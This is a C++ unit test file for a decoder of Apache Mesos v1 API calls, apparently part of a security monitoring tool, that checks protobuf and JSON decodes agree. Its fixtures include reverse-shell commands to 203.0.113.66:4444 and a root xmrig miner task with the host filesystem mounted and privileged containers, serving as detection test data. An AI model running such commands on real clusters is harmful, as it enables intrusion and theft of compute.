// v1 API calls in both encodings: each call is built once with the
// generated classes, sent as application/x-protobuf and as Mesos's JSON,
// and both decodes must give the same fields.
#include <gtest/gtest.h>

#include <functional>

#include "decoders/libprocess/mesos.pb.h"
#include "decoders/mesos_api/v1.pb.h"
#include "decoders/mesos_api/v1_call.h"
#include "tests/unit/libprocess/mesos_test_support.h"

namespace segward::mesos {
namespace {

using namespace segward::mesos::testing;
namespace m = ::mesos;
namespace v1 = ::mesos::v1;

struct Decoded {
  MesosEvent protobuf, json;
};

// Through the public entry points, once per encoding; the two must agree.
Decoded both(const std::string& target, const google::protobuf::Message& call, std::uint16_t port = 5050) {
  Decoded d;
  d.protobuf = decode(api_call(target, serialize(call), "application/x-protobuf", port));
  d.json = decode(api_call(target, to_bytes(to_json(call)), "application/json", port));
  EXPECT_EQ(d.protobuf.status, DecodeStatus::kOk) << call.GetTypeName();
  EXPECT_EQ(d.json.status, DecodeStatus::kOk) << to_json(call);
  EXPECT_EQ(d.protobuf.body_encoding, BodyEncoding::kProtobuf);
  EXPECT_EQ(d.json.body_encoding, BodyEncoding::kJson);
  EXPECT_EQ(d.protobuf.kind, MesosKind::kApi);
  expect_same_fields(d.protobuf, d.json);
  return d;
}

m::FrameworkInfo framework_info() {
  m::FrameworkInfo fi;
  fi.set_user("root");
  fi.set_name("chronos");
  fi.mutable_id()->set_value("fw-42");
  fi.set_checkpoint(true);
  fi.set_hostname("10.0.0.3");
  fi.set_principal("chronos-principal");
  fi.add_roles("*");
  fi.add_capabilities()->set_type(m::FrameworkInfo_Capability_Type_REVOCABLE_RESOURCES);
  return fi;
}

TEST(V1SchedulerCall, Subscribe) {
  v1::SchedulerCall call;
  call.set_type(v1::SchedulerCall::SUBSCRIBE);
  *call.mutable_subscribe()->mutable_framework_info() = framework_info();
  const Decoded d = both("/api/v1/scheduler", call);
  const MesosEvent& e = d.json;
  EXPECT_EQ(e.api, ApiFamily::kScheduler);
  EXPECT_EQ(e.endpoint.view(), "/api/v1/scheduler");
  EXPECT_EQ(e.call.view(), "SUBSCRIBE");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.framework.name.view(), "chronos");
  EXPECT_EQ(e.framework.user.view(), "root");
  EXPECT_EQ(e.framework.principal.view(), "chronos-principal");
  EXPECT_EQ(e.framework.roles.view(), "*");
  EXPECT_EQ(e.framework.id.view(), "fw-42");
  EXPECT_EQ(e.framework.hostname.view(), "10.0.0.3");
  EXPECT_TRUE(e.framework.checkpoint);
  EXPECT_EQ(e.framework.capabilities, 1u << 1);
}

TEST(V1SchedulerCall, TeardownKillAcknowledgeUpdateFramework) {
  v1::SchedulerCall teardown;
  teardown.mutable_framework_id()->set_value("fw-42");
  teardown.set_type(v1::SchedulerCall::TEARDOWN);
  Decoded d = both("/master/api/v1/scheduler", teardown);
  EXPECT_EQ(d.json.call.view(), "TEARDOWN");
  EXPECT_EQ(d.json.framework.id.view(), "fw-42");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kMutating);

  v1::SchedulerCall kill;
  kill.mutable_framework_id()->set_value("fw-42");
  kill.set_type(v1::SchedulerCall::KILL);
  kill.mutable_kill()->mutable_task_id()->set_value("job.1");
  kill.mutable_kill()->mutable_agent_id()->set_value("S3");
  d = both("/api/v1/scheduler", kill);
  EXPECT_EQ(d.json.task.id.view(), "job.1");
  EXPECT_EQ(d.json.agent.id.view(), "S3");

  v1::SchedulerCall ack;
  ack.set_type(v1::SchedulerCall::ACKNOWLEDGE);
  ack.mutable_acknowledge()->mutable_task_id()->set_value("job.1");
  ack.mutable_acknowledge()->mutable_agent_id()->set_value("S3");
  d = both("/api/v1/scheduler", ack);
  EXPECT_EQ(d.json.call.view(), "ACKNOWLEDGE");
  EXPECT_EQ(d.json.task.id.view(), "job.1");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kRead);

  v1::SchedulerCall update;
  update.set_type(v1::SchedulerCall::UPDATE_FRAMEWORK);
  *update.mutable_update_framework()->mutable_framework_info() = framework_info();
  d = both("/api/v1/scheduler", update);
  EXPECT_EQ(d.json.call.view(), "UPDATE_FRAMEWORK");
  EXPECT_EQ(d.json.framework.name.view(), "chronos");

  v1::SchedulerCall shutdown;
  shutdown.set_type(v1::SchedulerCall::SHUTDOWN);
  shutdown.mutable_shutdown()->mutable_executor_id()->set_value("exec-9");
  shutdown.mutable_shutdown()->mutable_agent_id()->set_value("S3");
  d = both("/api/v1/scheduler", shutdown);
  EXPECT_EQ(d.json.detail.view(), "executor=exec-9");

  for (const auto type : {v1::SchedulerCall::DECLINE, v1::SchedulerCall::REVIVE, v1::SchedulerCall::SUPPRESS,
                          v1::SchedulerCall::RECONCILE}) {
    v1::SchedulerCall call;
    call.set_type(type);
    d = both("/api/v1/scheduler", call);
    EXPECT_EQ(d.json.call.view(), v1::SchedulerCall::Type_Name(type));
    EXPECT_EQ(d.json.endpoint_class, EndpointClass::kRead);
  }
}

TEST(V1SchedulerCall, AcceptLaunchesNestedTasks) {
  v1::SchedulerCall call;
  call.mutable_framework_id()->set_value("fw-42");
  call.set_type(v1::SchedulerCall::ACCEPT);
  call.mutable_accept()->add_offer_ids()->set_value("O1");
  auto* launch = call.mutable_accept()->add_operations();
  launch->set_type(m::Offer_Operation_Type_LAUNCH);
  for (int i = 0; i < 2; ++i) {
    auto* t = launch->mutable_launch()->add_task_infos();
    t->set_name("miner-" + std::to_string(i));
    t->mutable_task_id()->set_value("miner." + std::to_string(i));
    t->mutable_slave_id()->set_value("S3");
    auto* cmd = t->mutable_command();
    cmd->add_arguments("xmrig");
    cmd->add_arguments("--donate-level=0");
    cmd->set_value("/usr/bin/env");
    cmd->set_shell(false);
    cmd->set_user("root");
    auto* container = t->mutable_container();
    container->set_type(m::ContainerInfo_Type_MESOS);
    container->mutable_mesos()->mutable_image()->set_type(m::Image_Type_DOCKER);
    container->mutable_mesos()->mutable_image()->mutable_docker()->set_name("miner/xmrig:latest");
    auto* volume = container->add_volumes();
    volume->set_container_path("/rootfs");
    volume->mutable_source()->set_type(m::Volume_Source_Type_HOST_PATH);
    volume->mutable_source()->mutable_host_path()->set_path("/");
  }
  auto* group = call.mutable_accept()->add_operations();
  group->set_type(m::Offer_Operation_Type_LAUNCH_GROUP);
  auto* pod = group->mutable_launch_group()->mutable_task_group()->add_tasks();
  pod->set_name("sidecar");
  pod->mutable_container()->set_type(m::ContainerInfo_Type_DOCKER);
  pod->mutable_container()->mutable_docker()->set_image("busybox");
  pod->mutable_container()->mutable_docker()->set_privileged(true);
  auto* destroy = call.mutable_accept()->add_operations();
  destroy->set_type(m::Offer_Operation_Type_DESTROY);

  const Decoded d = both("/api/v1/scheduler", call);
  const MesosEvent& e = d.protobuf;
  EXPECT_EQ(e.call.view(), "ACCEPT");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.framework.id.view(), "fw-42");
  EXPECT_EQ(e.task.count, 3);
  EXPECT_EQ(e.task.name.view(), "miner-0");
  EXPECT_EQ(e.task.id.view(), "miner.0");
  EXPECT_EQ(e.task.command.view(), "/usr/bin/env xmrig --donate-level=0");
  EXPECT_EQ(e.task.user.view(), "root");
  EXPECT_EQ(e.task.image.view(), "miner/xmrig:latest");
  EXPECT_EQ(e.task.host_path.view(), "/");
  EXPECT_TRUE(e.task.privileged);
  EXPECT_EQ(e.agent.id.view(), "S3");
  EXPECT_EQ(e.detail.view(), "operations=LAUNCH,LAUNCH_GROUP,DESTROY");
}

TEST(V1SchedulerCall, JsonFieldOrderDoesNotMatter) {
  // Mesos's JSON (stout) is an unordered map: type after the body, nested
  // objects before their siblings.
  const std::string json =
      R"({"subscribe":{"framework_info":{"principal":"p","name":"n","user":"u"}},"type":"SUBSCRIBE",)"
      R"("framework_id":{"value":"fw"}})";
  MesosEvent e = decode(api_call("/api/v1/scheduler", to_bytes(json), "application/json"));
  EXPECT_EQ(e.call.view(), "SUBSCRIBE");
  EXPECT_EQ(e.framework.name.view(), "n");
  EXPECT_EQ(e.framework.id.view(), "fw");
}

TEST(V1ExecutorCall, UpdateAndSubscribe) {
  v1::ExecutorCall update;
  update.mutable_executor_id()->set_value("exec-1");
  update.mutable_framework_id()->set_value("fw-42");
  update.set_type(v1::ExecutorCall::UPDATE);
  auto* status = update.mutable_update()->mutable_status();
  status->mutable_task_id()->set_value("job.1");
  status->set_state(m::TASK_FINISHED);
  Decoded d = both("/slave(1)/api/v1/executor", update, 5051);
  EXPECT_EQ(d.json.api, ApiFamily::kExecutor);
  EXPECT_EQ(d.json.call.view(), "UPDATE");
  EXPECT_EQ(d.json.task.state.view(), "TASK_FINISHED");
  EXPECT_EQ(d.json.task.id.view(), "job.1");
  EXPECT_EQ(d.json.framework.id.view(), "fw-42");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kMutating);

  v1::ExecutorCall subscribe;
  subscribe.set_type(v1::ExecutorCall::SUBSCRIBE);
  auto* task = subscribe.mutable_subscribe()->add_unacknowledged_tasks();
  task->set_name("job");
  d = both("/api/v1/executor", subscribe, 5051);
  EXPECT_EQ(d.json.task.count, 1);
  EXPECT_EQ(d.json.task.name.view(), "job");

  v1::ExecutorCall heartbeat;
  heartbeat.set_type(v1::ExecutorCall::HEARTBEAT);
  EXPECT_EQ(both("/api/v1/executor", heartbeat, 5051).json.endpoint_class, EndpointClass::kRead);
}

TEST(V1MasterCall, TypesAndBodies) {
  const struct {
    v1::MasterCall::Type type;
    EndpointClass cls;
  } types[] = {
      {v1::MasterCall::GET_FLAGS, EndpointClass::kSecretLeaking},
      {v1::MasterCall::GET_STATE, EndpointClass::kSecretLeaking},
      {v1::MasterCall::GET_HEALTH, EndpointClass::kRead},
      {v1::MasterCall::GET_AGENTS, EndpointClass::kRead},
      {v1::MasterCall::SUBSCRIBE, EndpointClass::kSecretLeaking},
      {v1::MasterCall::UPDATE_MAINTENANCE_SCHEDULE, EndpointClass::kMutating},
      {v1::MasterCall::UPDATE_QUOTA, EndpointClass::kMutating},
      {v1::MasterCall::UNKNOWN, EndpointClass::kUnclassified},
  };
  for (const auto& t : types) {
    v1::MasterCall call;
    call.set_type(t.type);
    const Decoded d = both("/master/api/v1", call);
    EXPECT_EQ(d.json.api, ApiFamily::kMasterOperator);
    EXPECT_EQ(d.json.call.view(), v1::MasterCall::Type_Name(t.type));
    EXPECT_EQ(d.json.endpoint_class, t.cls) << v1::MasterCall::Type_Name(t.type);
  }

  v1::MasterCall read_file;
  read_file.set_type(v1::MasterCall::READ_FILE);
  read_file.mutable_read_file()->set_path("/master/log");
  read_file.mutable_read_file()->set_offset(0);
  read_file.mutable_read_file()->set_length(4096);
  Decoded d = both("/api/v1", read_file);
  EXPECT_EQ(d.json.detail.view(), "/master/log");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kSecretLeaking);

  v1::MasterCall teardown;
  teardown.set_type(v1::MasterCall::TEARDOWN);
  teardown.mutable_teardown()->mutable_framework_id()->set_value("fw-42");
  d = both("/master/api/v1", teardown);
  EXPECT_EQ(d.json.call.view(), "TEARDOWN");
  EXPECT_EQ(d.json.framework.id.view(), "fw-42");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kMutating);

  v1::MasterCall gone;
  gone.set_type(v1::MasterCall::MARK_AGENT_GONE);
  gone.mutable_mark_agent_gone()->mutable_agent_id()->set_value("S3");
  EXPECT_EQ(both("/master/api/v1", gone).json.agent.id.view(), "S3");

  v1::MasterCall drain;
  drain.set_type(v1::MasterCall::DRAIN_AGENT);
  drain.mutable_drain_agent()->mutable_agent_id()->set_value("S3");
  drain.mutable_drain_agent()->set_mark_gone(true);
  d = both("/master/api/v1", drain);
  EXPECT_EQ(d.json.agent.id.view(), "S3");
  EXPECT_EQ(d.json.detail.view(), "mark_gone=true");

  v1::MasterCall maintenance;
  maintenance.set_type(v1::MasterCall::START_MAINTENANCE);
  maintenance.mutable_start_maintenance()->add_machines()->set_hostname("agent-1");
  maintenance.mutable_start_maintenance()->add_machines()->set_hostname("agent-2");
  EXPECT_EQ(both("/master/api/v1", maintenance).json.detail.view(), "machines=agent-1,agent-2");

  v1::MasterCall level;
  level.set_type(v1::MasterCall::SET_LOGGING_LEVEL);
  level.mutable_set_logging_level()->set_level(3);
  EXPECT_EQ(both("/master/api/v1", level).json.detail.view(), "level=3");

  v1::MasterCall reserve;
  reserve.set_type(v1::MasterCall::RESERVE_RESOURCES);
  reserve.mutable_reserve_resources()->mutable_agent_id()->set_value("S4");
  EXPECT_EQ(both("/master/api/v1", reserve).json.agent.id.view(), "S4");
}

TEST(V1AgentCall, ContainerLaunchesAndAttach) {
  for (const bool session : {false, true}) {
    v1::AgentCall call;
    call.set_type(session ? v1::AgentCall::LAUNCH_NESTED_CONTAINER_SESSION : v1::AgentCall::LAUNCH_NESTED_CONTAINER);
    auto* launch = session ? call.mutable_launch_nested_container_session() : call.mutable_launch_nested_container();
    launch->mutable_container_id()->set_value("debug-shell");
    launch->mutable_container_id()->mutable_parent()->set_value("parent-container");
    launch->mutable_command()->set_value("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1");
    launch->mutable_container()->mutable_docker()->set_privileged(true);
    const Decoded d = both("/slave(1)/api/v1", call, 5051);
    EXPECT_EQ(d.json.api, ApiFamily::kAgentOperator);
    EXPECT_EQ(d.json.call.view(), session ? "LAUNCH_NESTED_CONTAINER_SESSION" : "LAUNCH_NESTED_CONTAINER");
    EXPECT_EQ(d.json.endpoint_class, EndpointClass::kMutating);
    EXPECT_EQ(d.json.task.command.view(), "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1");
    EXPECT_TRUE(d.json.task.privileged);
    EXPECT_EQ(d.json.task.count, 0);
    EXPECT_EQ(d.json.detail.view(), "container=debug-shell");
  }

  v1::AgentCall launch;
  launch.set_type(v1::AgentCall::LAUNCH_CONTAINER);
  launch.mutable_launch_container()->mutable_container_id()->set_value("standalone");
  launch.mutable_launch_container()->mutable_command()->set_value("nc -e /bin/sh 203.0.113.66 4444");
  launch.mutable_launch_container()->mutable_container()->mutable_docker()->set_image("alpine");
  Decoded d = both("/api/v1", launch, 5051);
  EXPECT_EQ(d.json.task.command.view(), "nc -e /bin/sh 203.0.113.66 4444");
  EXPECT_EQ(d.json.task.image.view(), "alpine");

  v1::AgentCall attach;
  attach.set_type(v1::AgentCall::ATTACH_CONTAINER_OUTPUT);
  attach.mutable_attach_container_output()->mutable_container_id()->set_value("c1");
  d = both("/api/v1", attach, 5051);
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kSecretLeaking);
  EXPECT_EQ(d.json.detail.view(), "container=c1");

  v1::AgentCall read_file;
  read_file.set_type(v1::AgentCall::READ_FILE);
  read_file.mutable_read_file()->set_path("/var/lib/mesos/slaves/S3/frameworks/fw/executors/e/runs/latest/stdout");
  d = both("/api/v1", read_file, 5051);
  EXPECT_EQ(d.json.detail.view(), "/var/lib/mesos/slaves/S3/frameworks/fw/executors/e/runs/latest/stdout");

  v1::AgentCall kill;
  kill.set_type(v1::AgentCall::KILL_NESTED_CONTAINER);
  kill.mutable_kill_nested_container()->mutable_container_id()->set_value("c2");
  EXPECT_EQ(both("/api/v1", kill, 5051).json.detail.view(), "container=c2");

  v1::AgentCall provider;
  provider.set_type(v1::AgentCall::ADD_RESOURCE_PROVIDER_CONFIG);
  provider.mutable_add_resource_provider_config()->mutable_info()->set_type("org.apache.mesos.rp.local.storage");
  provider.mutable_add_resource_provider_config()->mutable_info()->set_name("lvm");
  EXPECT_EQ(both("/api/v1", provider, 5051).json.detail.view(),
            "provider_type=org.apache.mesos.rp.local.storage; provider_name=lvm");
}

TEST(V1AgentCall, StreamedAttachInputReadsOnlyTheFirstRecord) {
  v1::AgentCall first;
  first.set_type(v1::AgentCall::ATTACH_CONTAINER_INPUT);
  first.mutable_attach_container_input()->set_type(v1::AgentCall_AttachContainerInput::CONTAINER_ID);
  first.mutable_attach_container_input()->mutable_container_id()->set_value("c1");
  const std::string record = to_json(first);
  const std::string stdin_record = R"({"type":"ATTACH_CONTAINER_INPUT","attach_container_input":{"type":"PROCESS_IO",)"
                                   R"("process_io":{"type":"DATA","data":{"type":"STDIN","data":"cGFzc3dvcmQ="}}}})";
  const std::string body = std::to_string(record.size()) + "\n" + record + std::to_string(stdin_record.size()) +
                           "\n" + stdin_record;
  Request r = api_call("/slave(1)/api/v1", to_bytes(body), "application/recordio", 5051);
  r.headers.emplace_back("Message-Content-Type", "application/json");
  const MesosEvent e = decode(r);
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.body_encoding, BodyEncoding::kRecordIo);
  EXPECT_EQ(e.call.view(), "ATTACH_CONTAINER_INPUT");
  EXPECT_EQ(e.endpoint_class, EndpointClass::kMutating);
  EXPECT_EQ(e.detail.view(), "input=CONTAINER_ID; container=c1");
  EXPECT_FALSE(event_contains(e, "cGFzc3dvcmQ"));

  Request bad = api_call("/slave(1)/api/v1", to_bytes("x\n{}"), "application/recordio", 5051);
  EXPECT_EQ(decode(bad).status, DecodeStatus::kBadRecordIo);
  Request cut = api_call("/slave(1)/api/v1", to_bytes("100\n{\"type\":\"ATTACH_CONTAINER_INPUT\"}"),
                         "application/recordio", 5051);
  cut.headers.emplace_back("Message-Content-Type", "application/json");
  const MesosEvent c = decode(cut);
  EXPECT_EQ(c.call.view(), "ATTACH_CONTAINER_INPUT");
  EXPECT_EQ(c.status, DecodeStatus::kBodyTruncated);
}

TEST(V1ResourceProviderCall, Subscribe) {
  v1::ResourceProviderCall call;
  call.set_type(v1::ResourceProviderCall::SUBSCRIBE);
  const Decoded d = both("/slave(1)/api/v1/resource_provider", call, 5051);
  EXPECT_EQ(d.json.api, ApiFamily::kResourceProvider);
  EXPECT_EQ(d.json.call.view(), "SUBSCRIBE");
  EXPECT_EQ(d.json.endpoint_class, EndpointClass::kMutating);
}

TEST(V1Calls, ContentTypeMissingOrOtherIsSniffed) {
  v1::MasterCall call;
  call.set_type(v1::MasterCall::GET_FLAGS);
  for (const char* type : {"", "text/plain", "application/octet-stream"}) {
    MesosEvent j = decode(api_call("/master/api/v1", to_bytes(to_json(call)), type));
    EXPECT_EQ(j.body_encoding, BodyEncoding::kJson) << type;
    EXPECT_EQ(j.call.view(), "GET_FLAGS");
    MesosEvent p = decode(api_call("/master/api/v1", serialize(call), type));
    EXPECT_EQ(p.body_encoding, BodyEncoding::kProtobuf) << type;
    EXPECT_EQ(p.call.view(), "GET_FLAGS");
  }
  Request no_type = api_call("/master/api/v1", to_bytes("  \n{\"type\":\"GET_VERSION\"}"), "");
  no_type.headers.clear();
  EXPECT_EQ(decode(no_type).call.view(), "GET_VERSION");
}

TEST(V1Calls, WrongEncodingForTheContentType) {
  v1::MasterCall call;
  call.set_type(v1::MasterCall::GET_FLAGS);
  // JSON declared, protobuf sent: bad JSON. Protobuf declared, JSON sent: bad protobuf.
  EXPECT_EQ(decode(api_call("/master/api/v1", serialize(call), "application/json")).status, DecodeStatus::kBadJson);
  EXPECT_EQ(decode(api_call("/master/api/v1", to_bytes("{\"type\":\"GET_FLAGS\"}"), "application/x-protobuf")).status,
            DecodeStatus::kBadProtobuf);
  // An undecodable body keeps the route's class.
  EXPECT_EQ(decode(api_call("/slave(1)/api/v1/resource_provider", to_bytes("{"), "application/json", 5051))
                .endpoint_class,
            EndpointClass::kMutating);
}

TEST(V1Calls, GzipBodiesAreNotDecoded) {
  Request r = api_call("/api/v1/scheduler", to_bytes("\x1f\x8b\x08\x00\x00\x00"), "application/json");
  r.headers.emplace_back("Content-Encoding", "gzip");
  EXPECT_FALSE(route_of(r).wants_body);
  const MesosEvent e = decode(r);
  EXPECT_EQ(e.status, DecodeStatus::kCompressedBody);
  EXPECT_EQ(e.detail.view(), "gzip body not decoded");
  EXPECT_EQ(e.kind, MesosKind::kApi);
  EXPECT_EQ(e.api, ApiFamily::kScheduler);
}

TEST(V1Calls, StreamIdAndAuthorizationAreReported) {
  v1::SchedulerCall call;
  call.set_type(v1::SchedulerCall::DECLINE);
  Request r = api_call("/api/v1/scheduler", serialize(call), "application/x-protobuf");
  r.headers.emplace_back("Mesos-Stream-Id", "6a1b9c1e-2d0f-4b8e-9a33-0f2f1f0e7c11");
  r.headers.emplace_back("Authorization", "Basic Y2hyb25vczpzM2NyM3Q=");
  const MesosEvent e = decode(r);
  EXPECT_EQ(e.stream_id.view(), "6a1b9c1e-2d0f-4b8e-9a33-0f2f1f0e7c11");
  EXPECT_EQ(e.auth_scheme, AuthScheme::kBasic);
  EXPECT_FALSE(event_contains(e, "Y2hyb25vczpzM2NyM3Q"));
  EXPECT_FALSE(event_contains(e, "s3cr3t"));
}

TEST(V1Calls, SecretsInBodiesAreNeverCopied) {
  // Docker registry credentials, Secret values, environment values: not in the schema.
  v1::SchedulerCall call;
  call.set_type(v1::SchedulerCall::ACCEPT);
  auto* t = call.mutable_accept()->add_operations()->mutable_launch()->add_task_infos();
  t->set_name("t");
  auto* fi = call.mutable_accept()->mutable_operations(0);
  fi->set_type(m::Offer_Operation_Type_LAUNCH);
  // Unknown to our subset of the proto: added as raw unknown fields at the
  // places Mesos puts them (Image.Docker.credential = 2, CommandInfo.environment = 2).
  auto* docker = t->mutable_container()->mutable_mesos()->mutable_image()->mutable_docker();
  docker->set_name("private/app");
  docker->GetReflection()->MutableUnknownFields(docker)->AddLengthDelimited(2, "\x0a\x04user\x12\x0bregistry-pw");
  t->mutable_command()->set_value("run");
  t->mutable_command()->GetReflection()->MutableUnknownFields(t->mutable_command())->AddLengthDelimited(
      2, "\x0a\x16\x0a\x08PASSWORD\x12\x0aenv-secret");
  const MesosEvent e = decode(api_call("/api/v1/scheduler", serialize(call), "application/x-protobuf"));
  EXPECT_EQ(e.status, DecodeStatus::kOk);
  EXPECT_EQ(e.task.image.view(), "private/app");
  EXPECT_EQ(e.task.command.view(), "run");
  EXPECT_FALSE(event_contains(e, "registry-pw"));
  EXPECT_FALSE(event_contains(e, "env-secret"));
}

}  // namespace
}  // namespace segward::mesos
